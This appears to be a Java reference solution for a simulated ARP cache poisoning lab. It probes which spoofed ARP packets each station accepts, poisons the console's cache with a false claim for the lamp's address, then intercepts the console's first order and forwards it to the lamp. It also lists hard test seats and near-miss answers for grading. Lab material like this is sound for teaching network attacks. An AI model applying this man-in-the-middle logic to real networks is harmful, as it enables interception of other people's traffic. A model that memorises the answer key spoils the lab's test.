package org.quintain.solutions.net.arppoison;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.quintain.core.Lab;
import org.quintain.core.Seat;
import org.quintain.core.contract.HardSeat;
import org.quintain.core.contract.NearMiss;
import org.quintain.core.contract.Reference;
import org.quintain.net.arppoison.ArpPoisonLab;
import org.quintain.net.arppoison.ArpPoisonLab.Answer;
import org.quintain.net.arppoison.ArpPoisonLab.Challenge;
import org.quintain.net.arppoison.ArpPoisonLab.Habit;
import org.quintain.net.arppoison.ArpPoisonLab.Station;
import org.quintain.net.wire.Ethernet;
import org.quintain.net.wire.Flaw;
import org.quintain.net.wire.Ipv4;
import org.quintain.solutions.net.Recorder;

/**
 * ARP cache poisoning (RFC 826 has no authentication; W. Du, SEED Labs, ARP Cache Poisoning Attack Lab): probes what each
 * station believes, tells the console in a way that it believes that the lamp's address is here, and passes on the first
 * order that comes.
 *
 * <p>Cost, over the practice seats 0 to 199: 21 frames for the survey, one packet of poison that is repeated four times a
 * second, 34 frames in all (worst 42); 83 queries (worst 122); 2.3 seconds of virtual time (worst 4.3), most of them spent
 * waiting for an order.
 */
public final class ArpPoisonAttack implements Reference<Challenge, Answer> {
    private static final long STEP_MICROS = 250_000;

    /** The console speaks at least every 4 seconds; some rounds more, in case the lamp's own request heals its cache. */
    private static final int STEPS = 40;

    @Override
    public Lab<Challenge, Answer> lab() {
        return new ArpPoisonLab();
    }

    @Override
    public Answer run(Challenge challenge) {
        Recorder recorder = new Recorder(challenge.card());
        ArpProbe probe = new ArpProbe(recorder, challenge);
        probe.resolve();
        List<Habit> habits = probe.habits();
        Station console = challenge.stations().get(0);
        Station lamp = challenge.stations().get(1);
        byte[] poison = poison(probe, habits.get(0), console, ArpProbe.address(lamp));
        for (int step = 0; step < STEPS; step++) {
            recorder.send(poison);
            Optional<byte[]> order = recorder.listen(STEP_MICROS).stream()
                    .filter(frame -> isFor(frame, recorder.mac(), ArpProbe.address(lamp)))
                    .findFirst();
            if (order.isPresent()) {
                recorder.send(forwarded(order.get(), recorder.mac(), probe.mac(lamp)));
                recorder.listen(STEP_MICROS);
                break;
            }
        }
        return new Answer(recorder.script(), habits);
    }

    /** A claim of a kind that the station believes; of any kind if it seems to believe none. */
    static byte[] poison(ArpProbe probe, Habit habit, Station victim, int claimed) {
        if (habit.gratuitous()) {
            return probe.gratuitous(claimed, victim);
        }
        return habit.request() ? probe.request(claimed, victim) : probe.reply(claimed, victim);
    }

    /** Whether a frame for this MAC holds a packet for that address. */
    static boolean isFor(byte[] frame, long mac, int address) {
        Ethernet ethernet = new Ethernet();
        Ipv4 ip = new Ipv4();
        return ethernet.wrap(frame) == Flaw.NONE
                && ethernet.destination() == mac
                && ethernet.type() == Ethernet.TYPE_IPV4
                && ip.wrap(ethernet) == Flaw.NONE
                && ip.destination() == address;
    }

    /** The same packet in a frame to its rightful receiver; the source is ours, or the switch would learn a lie, too. */
    static byte[] forwarded(byte[] frame, long from, long to) {
        byte[] copy = frame.clone();
        new Ethernet().place(copy, 0, copy.length).source(from).destination(to);
        return copy;
    }

    /** Asks for every station, answers their questions about itself, and pings each. */
    @Override
    public void honestUse(Challenge challenge) {
        HonestNeighbour.greet(challenge);
    }

    @Override
    public List<NearMiss<Answer>> nearMisses(Challenge challenge, Answer right) {
        return ArpPoisonMisses.of(challenge, right);
    }

    @Override
    public List<HardSeat> hardSeats() {
        return List.of(
                seat(0, "the console believes requests alone"),
                seat(1, "the console believes replies alone"),
                seat(4, "the console believes gratuitous packets alone"),
                seat(6, "the other stations believe nothing: an empty row is no failed test"),
                seat(2696, "every station believes everything"),
                seat(1158, "the addresses ending in .2 and .3 are in use, so they are no test addresses"),
                seat(165, "the first order leaves before the poison: the console's cache holds the true MAC already"),
                seat(2093, "the first order leaves after 3.99 seconds: patience"));
    }

    private static HardSeat seat(int number, String why) {
        return new HardSeat(why, Seat.practice(number), Map.of());
    }
}
